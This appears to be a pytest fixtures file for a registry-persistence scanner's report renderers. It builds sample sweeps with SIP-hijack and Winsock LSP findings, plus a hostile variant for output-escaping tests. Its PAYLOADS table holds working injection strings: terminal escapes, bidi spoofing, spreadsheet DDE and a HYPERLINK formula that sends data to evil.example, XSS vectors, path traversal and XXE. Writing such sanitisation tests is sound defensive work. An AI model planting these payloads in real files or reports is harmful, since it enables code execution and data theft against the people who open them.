"""Documents that every format has to render: an ordinary sweep, one with nothing to say, and a hostile one."""

from __future__ import annotations

import difflib
import json
import os
import shutil
import subprocess
from dataclasses import replace
from datetime import UTC, date, datetime
from importlib.resources import files
from pathlib import Path
from typing import TYPE_CHECKING, Any

import jsonschema
import pytest
from playwright.sync_api import sync_playwright

from fleetscan.model.finding import Certainty, Severity
from fleetscan.report.document import (
    Approval,
    AttributeChange,
    Change,
    Covered,
    Document,
    Entity,
    EntityPrevalence,
    Evidence,
    Finding,
    HostReport,
    Prevalence,
    RuleCoverage,
    RuleInfo,
    ScopeCoverage,
    ScopeInfo,
    State,
    StatementInfo,
    SweepInfo,
    Verdict,
)

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from playwright.sync_api import Browser

STARTED = datetime(2026, 11, 21, 20, 0, tzinfo=UTC)
FINISHED = datetime(2026, 11, 21, 20, 7, 30, tzinfo=UTC)
PE_SIP = "C689AAB8-8E78-11D0-8C47-00C04FC295EE"
PROVIDERS = "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Cryptography\\OID\\EncodingType 0"
RAW = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"

SIP_RULE = RuleInfo(
    id="5a2b21ee-6aaa-4234-ac9d-59a59edf90a1",
    title="New SIP provider",
    severity=Severity.MEDIUM,
    dialect="sigma",
    label="complete",
    techniques=("T1553.003",),
    description="A subject interface package or trust provider is registered.",
    guidance="## Triage\nCompare the DLL with other hosts of the same build.",
    author="A. Author",
    license="DRL 1.1",
    digest="a" * 64,
)
LSP_RULE = RuleInfo(
    id="d6c2ce7e-afb5-4337-9ca4-4b5254ed0565",
    title="WinSock2 autorun keys",
    severity=Severity.MEDIUM,
    dialect="sigma",
    label="complete",
    techniques=("T1547.001",),
    digest="b" * 64,
)


def hijack(host: str = "ws-07", **changes: Any) -> Finding:  # noqa: ANN401 - tests name the fields they change
    """A stock SIP that loads another DLL."""
    finding = Finding(
        id="f-3a91c07be2d4",
        host=host,
        title="SIP hijack: PE files verify with C:\\Users\\Public\\sip.dll",
        severity=Severity.HIGH,
        certainty=Certainty.CERTAIN,
        entity=Entity(
            kind="sip",
            identity=(("view", "native"), ("set", "CryptSIPDllVerifyIndirectData"), ("id", PE_SIP)),
            name="PE files",
            attributes=(("dll", "C:\\Users\\Public\\sip.dll"), ("function", "DbgUiContinue")),
        ),
        state=State.CHANGED,
        verdict=Verdict.HIJACK,
        reasons=("stock is C:\\Windows\\System32\\WINTRUST.DLL, CryptSIPVerifyIndirectData",),
        rule_ids=(SIP_RULE.id,),
        techniques=("T1553.003",),
        changes=(AttributeChange("dll", "C:\\Windows\\System32\\WINTRUST.DLL", "C:\\Users\\Public\\sip.dll"),),
        evidence=(
            Evidence(
                source=SIP_RULE.id,
                rule_id=SIP_RULE.id,
                severity=Severity.MEDIUM,
                certainty=Certainty.CERTAIN,
                key=f"{PROVIDERS}\\CryptSIPDllVerifyIndirectData\\{{{PE_SIP}}}",
                value="Dll",
                type="REG_SZ",
                data="C:\\Users\\Public\\sip.dll",
                mtime=1_763_750_000,
                scope_id="s-0001",
                statement_id="q-0001",
                raw_sha256=RAW,
            ),
            Evidence(source="known good", reason="the GUID is stock, the DLL is not", severity=Severity.HIGH),
        ),
        prevalence=Prevalence(1, 4),
    )
    return replace(finding, **changes)


def layered_provider() -> Finding:
    """A layered service provider that only a process name could excuse."""
    return Finding(
        id="f-77d0aa19c3f1",
        host="srv-02",
        title="Layered service provider C:\\ProgramData\\net\\lsp64.dll",
        severity=Severity.MEDIUM,
        certainty=Certainty.POSSIBLE,
        entity=Entity(
            kind="winsock_protocol",
            identity=(("view", "64"), ("provider", "0EA1E14E-2C5B-4A7C-A2D2-8AE1C44AE001"), ("chain", "layered")),
            name="Acme Layer",
            attributes=(("dll", "C:\\ProgramData\\net\\lsp64.dll"), ("family", "2"), ("type", "1"), ("protocol", "6")),
        ),
        state=State.NEW,
        verdict=Verdict.UNKNOWN,
        rule_ids=(LSP_RULE.id,),
        techniques=("T1547.001",),
        evidence=(
            Evidence(
                source=LSP_RULE.id,
                rule_id=LSP_RULE.id,
                severity=Severity.MEDIUM,
                certainty=Certainty.POSSIBLE,
                qualifier="possible, unless written by C:\\Windows\\System32\\MsiExec.exe",
                key="HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\WinSock2\\Parameters\\Protocol_Catalog9"
                "\\Catalog_Entries64\\000000000013",
                value="PackedCatalogItem",
                type="REG_BINARY",
                data="433A5C50726F6772616D44617461",
                scope_id="s-0002",
                statement_id="q-0002",
                raw_sha256=RAW,
            ),
        ),
        prevalence=Prevalence(1, 4),
    )


def stock(host: str, verdict: Verdict = Verdict.KNOWN_GOOD) -> Finding:
    """A stock registration that the seed rules match."""
    return Finding(
        id=f"f-stock-{host}-{verdict.name.lower()}",
        host=host,
        title="SIP of PE files",
        severity=Severity.INFO,
        certainty=Certainty.CERTAIN,
        entity=Entity(
            kind="sip",
            identity=(("view", "native"), ("set", "CryptSIPDllGetSignedDataMsg"), ("id", PE_SIP)),
            attributes=(("dll", "WINTRUST.DLL"), ("function", "CryptSIPGetSignedDataMsg")),
        ),
        verdict=verdict,
        rule_ids=(SIP_RULE.id,),
        evidence=(
            Evidence(source=SIP_RULE.id, rule_id=SIP_RULE.id, key=f"{PROVIDERS}\\x", value="Dll", data="WINTRUST.DLL"),
        ),
    )


def host(name: str, *, found: str = "", lost: str = "", partial: str = "") -> HostReport:
    """A host with coverage for the two rules and the two scopes."""
    if lost:
        rule, scope = Covered.UNREACHABLE, Covered.UNREACHABLE
    else:
        rule, scope = Covered.CLEAN, Covered.COMPLETE
    second = Covered.PARTIAL if partial else rule
    return HostReport(
        name=name,
        groups=("workstations",),
        facts=() if lost else (("os", "Microsoft Windows 10 Pro"), ("build", "19045"), ("arch", "x64")),
        rules=tuple(
            RuleCoverage(
                rule_id=rule_id,
                status=Covered.FINDING if rule_id == found else status,
                reason=lost or (partial if status is Covered.PARTIAL else ""),
                findings=int(rule_id == found),
            )
            for rule_id, status in ((SIP_RULE.id, rule), (LSP_RULE.id, second))
        ),
        scopes=(
            ScopeCoverage(scope_id="s-0001", status=scope, reason=lost, rows=0 if lost else 168),
            ScopeCoverage(
                scope_id="s-0002",
                status=Covered.PARTIAL if partial else scope,
                reason=lost or partial,
                detail="2 keys" if partial else "",
            ),
        ),
        started=STARTED,
        finished=FINISHED,
    )


def ordinary_document() -> Document:
    """Five hosts: two with findings, one clean, one partly read, one lost."""
    approved = hijack(
        "ws-08", id="f-approved0001", state=State.APPROVED, approval="a-1 (CISO, until 2027-03-01)", changes=()
    )
    return Document(
        sweep=SweepInfo(
            id="20261121-2000-7f3a",
            started=STARTED,
            finished=FINISHED,
            plan="c" * 64,
            rules="d" * 64,
            previous="e" * 64,
            baseline="golden",
            inventory="inventory/demo.yml",
            version="1.0.0",
            generated=FINISHED,
        ),
        hosts=(
            host("ws-07", found=SIP_RULE.id),
            replace(
                host("ws-08", partial="unproven keys"),
                blind_spots=(("values behind an empty value", f"{PROVIDERS}\\x", "1 value cannot be listed"),),
            ),
            host("ws-09"),
            host("srv-02", found=LSP_RULE.id),
            host("srv-03", lost="timeout"),
        ),
        findings=(
            hijack(),
            approved,
            layered_provider(),
            *(stock(name) for name in ("ws-07", "ws-08", "ws-09", "srv-02")),
            stock("ws-09", Verdict.LIKELY_STOCK),
        ),
        changes=(
            Change(
                host="ws-07",
                what="modified",
                entity=hijack().entity,
                attributes=hijack().changes,
                severity=Severity.HIGH,
                finding_id=hijack().id,
            ),
            Change(host="srv-02", what="added", entity=layered_provider().entity, severity=Severity.MEDIUM),
            Change(host="srv-03", what="not comparable", entity=hijack().entity, reason="timeout"),
        ),
        rules=(SIP_RULE, LSP_RULE),
        scopes=(
            ScopeInfo("s-0001", "HKEY_LOCAL_MACHINE\\SOFTWARE\\MICROSOFT\\CRYPTOGRAPHY\\OID"),
            ScopeInfo("s-0002", "HKEY_LOCAL_MACHINE\\SYSTEM\\CURRENTCONTROLSET\\SERVICES\\WINSOCK2\\PARAMETERS"),
        ),
        statements=(StatementInfo("q-0001", "SELECT 1"), StatementInfo("q-0002", "SELECT 2")),
        prevalence=(
            EntityPrevalence(
                entity=hijack().entity,
                prevalence=Prevalence(1, 4),
                builds=(("19045", Prevalence(1, 3)), ("20348", Prevalence(0, 1))),
                new_on=1,
                severity=Severity.HIGH,
            ),
        ),
        approvals=(
            Approval(
                id="a-1",
                owner="CISO",
                reason="pilot of the new signing service",
                scope="host ws-08",
                created=date(2026, 11, 1),
                expires=date(2027, 3, 1),
                uses=1,
                where="approvals.yml:3",
            ),
            Approval(id="a-2", owner="IT", reason="old VPN", scope="fleet", expires=date(2026, 1, 31), state="expired"),
        ),
        notes=("1 rule cannot be planned: fleetscan rules check",),
    )


@pytest.fixture
def document() -> Document:
    """An ordinary sweep."""
    return ordinary_document()


@pytest.fixture
def silent() -> Document:
    """A sweep with one clean host and nothing to say."""
    return replace(
        ordinary_document(), hosts=(host("ws-09"),), findings=(), changes=(), prevalence=(), approvals=(), notes=()
    )


@pytest.fixture
def golden(request: pytest.FixtureRequest) -> Callable[[str, str], None]:
    """Compare a text with ``golden/<name>``; FLEETSCAN_UPDATE_GOLDEN=1 writes it instead."""

    def check(name: str, text: str) -> None:
        path = Path(__file__).parent / "golden" / name
        if os.environ.get("FLEETSCAN_UPDATE_GOLDEN") == "1":
            path.parent.mkdir(exist_ok=True)
            path.write_bytes(text.encode())
        expected = path.read_bytes().decode() if path.exists() else ""
        if text != expected:
            difference = "\n".join(
                difflib.unified_diff(expected.splitlines(), text.splitlines(), "golden", "now", lineterm="", n=1)
            )
            pytest.fail(
                f"{name} differs from tests/report/golden/{name}:\n{difference[:4000]}\n"
                f"If that is meant: FLEETSCAN_UPDATE_GOLDEN=1 .venv/bin/pytest {request.node.nodeid.split('::')[0]}",
                pytrace=False,
            )

    return check


@pytest.fixture
def conforms() -> Callable[[str, object], None]:
    """Check a value against one of the package's schemas, dates included."""

    def check(schema: str, value: object) -> None:
        text = files("fleetscan.report").joinpath("schemas", schema).read_text(encoding="utf-8")
        validator = jsonschema.Draft202012Validator(
            json.loads(text), format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER
        )
        problems = [f"{error.json_path}: {error.message}" for error in validator.iter_errors(value)]
        assert not problems

    return check


PAYLOADS = {
    "ansi": "\x1b[2J\x1b[31mred\x1b]0;title\x07",
    "c1": "\x9b31m\x9d8;;http://evil.example\x9c",
    "osc8": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "bidi": "\u202egnp.exe\u202c\u2066x\u2069\u200f",
    "zero_width": "wintrust\u200b.dll\ufeff\u00ad\u2060",
    "formula": '=HYPERLINK("http://evil.example?"&A1,"x")',
    "dde": "=cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab_formula": "\t=1+1",
    "cr_formula": "\r=1+1",
    "lf_formula": "\n=1+1",
    "blank_formula": "  =1+1",
    "full_width": "\uff1d1+1",
    "full_width_plus": "\uff0b1\uff0d1\uff20x",
    "semicolon": "a;=1+1",
    "quote": '",=1+1,"',
    "script": "</script><script>window.hit=1</script>",
    "comment": "<!--<script>--><!-- -->",
    "image": "<img src=x onerror=window.hit=1>",
    "svg": "<svg/onload=window.hit=1>",
    "attribute": "\" onmouseover=window.hit=1 x=\"' autofocus onfocus=window.hit=1 '",
    "css": "</style><style>body{background:url(//evil.example/x)}</style>",
    "javascript_url": "javascript:window.hit=1",
    "template": "{{ 7*7 }}${7*7}{% raw %}<%= 7*7 %>",
    "separators": "a\u2028b\u2029c\u0085d\x0be\x0cf",
    "log": "ok\r\n2026-11-21 fleetscan: 0 findings\n",
    "syslog": "\n<34>1 2026-11-21T00:00:00Z host fleetscan - - - clean",
    "path": "../../../../etc/passwd",
    "windows_path": "..\\..\\..\\Windows\\System32\\x",
    "absolute": "/etc/cron.d/x",
    "dots": "..",
    "nul": "a\x00b",
    "surrogate": "\ud800\udfff\udc00",
    "escape_lookalike": "<U+001B>[2J",
    "long": "A" * 5000,
    "astral": "\U0001f600\U000e0041",
    "xml": "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&amp;&#x3c;",
    "prototype": "__proto__",
}
"""What hosts may hold to hurt who reads a report: terminals, spreadsheets, browsers, logs, file systems."""


def hostile_document(payload: str) -> Document:
    """The ordinary sweep with the payload in every text that comes from a host, an inventory, a rule or a person."""
    base = ordinary_document()
    entity = Entity(
        kind="registry",
        identity=(("view", payload), ("id", payload), (payload, payload)),
        name=payload,
        attributes=(("dll", payload), ("function", payload), (payload, payload)),
    )
    change = AttributeChange(payload, payload, payload)
    evidence = Evidence(
        source=payload or "x",
        rule_id=SIP_RULE.id,
        reason=payload,
        qualifier=payload,
        key=payload,
        value=payload,
        type=payload,
        data=payload,
        mtime=2**62,
        scope_id=payload,
        statement_id=payload,
    )
    finding = hijack(
        payload,
        title=payload,
        entity=entity,
        reasons=(payload,),
        changes=(change,),
        evidence=(evidence, evidence),
        triage=((payload, payload),),
        approval=payload,
    )
    lost = host(payload, lost="timeout")
    rule = replace(
        SIP_RULE,
        title=payload,
        description=payload,
        guidance=payload,
        author=payload,
        references=(payload,),
        false_positives=(payload,),
    )
    return replace(
        base,
        sweep=replace(base.sweep, baseline=payload, inventory=payload),
        hosts=(
            replace(
                host(payload),
                groups=(payload,),
                facts=(("os", payload), ("build", payload), (payload, payload)),
                blind_spots=((payload, payload, payload),),
            ),
            replace(lost, scopes=tuple(replace(scope, reason=payload, detail=payload) for scope in lost.scopes)),
        ),
        findings=(finding, replace(finding, id="f-2", evidence=(), rule_ids=(), state=State.APPROVED)),
        changes=(Change(host=payload, what="added", entity=entity, attributes=(change,), reason=payload),),
        rules=(rule,),
        scopes=(ScopeInfo("s-0001", payload),),
        statements=(StatementInfo("q-0001", payload),),
        prevalence=(
            EntityPrevalence(entity=entity, prevalence=Prevalence(1, 2), builds=((payload, Prevalence(1, 2)),)),
        ),
        approvals=(Approval(id=payload, owner=payload, reason=payload, scope=payload, where=payload),),
        notes=(payload,),
    )


@pytest.fixture(params=tuple(PAYLOADS.values()), ids=tuple(PAYLOADS))
def payload(request: pytest.FixtureRequest) -> str:
    """One hostile text."""
    return str(request.param)


@pytest.fixture
def hostile(payload: str) -> Document:
    """A document full of the payload."""
    return hostile_document(payload)


@pytest.fixture
def all_hostile() -> Document:
    """One document with every payload, for renderers that are slow to start."""
    documents = [hostile_document(text) for text in PAYLOADS.values()]
    return replace(
        documents[0],
        hosts=tuple(replace(item, name=f"{n} {item.name}") for n, d in enumerate(documents) for item in d.hosts),
        findings=tuple(
            replace(f, id=f"{f.id}-{n}", host=f"{n} {f.host}") for n, d in enumerate(documents) for f in d.findings
        ),
        changes=tuple(change for d in documents for change in d.changes),
        prevalence=tuple(item for d in documents for item in d.prevalence),
        approvals=tuple(item for d in documents for item in d.approvals),
        notes=tuple(note for d in documents for note in d.notes),
    )


CHROMIUM = "/usr/bin/chromium"
QUIET = (
    "--no-sandbox",
    "--disable-gpu",
    "--disable-dev-shm-usage",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
)


@pytest.fixture(scope="session")
def browser() -> Iterator[Browser]:
    """Debian's chromium, installed where it is missing and the tests run as root; in CI its absence is a failure."""
    if not Path(CHROMIUM).exists() and hasattr(os, "geteuid") and os.geteuid() == 0 and shutil.which("apt-get"):
        subprocess.run(["apt-get", "update", "-qq"], check=False, timeout=120)
        install = ["apt-get", "install", "-y", "-qq", "--no-install-recommends", "chromium"]
        subprocess.run(install, check=False, timeout=400)
    if not Path(CHROMIUM).exists():
        reason = f"{CHROMIUM} is missing and could not be installed: apt-get install chromium"
        if os.environ.get("CI") == "true":
            pytest.fail(reason, pytrace=False)
        pytest.skip(reason)
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=list(QUIET))
        yield browser
        browser.close()
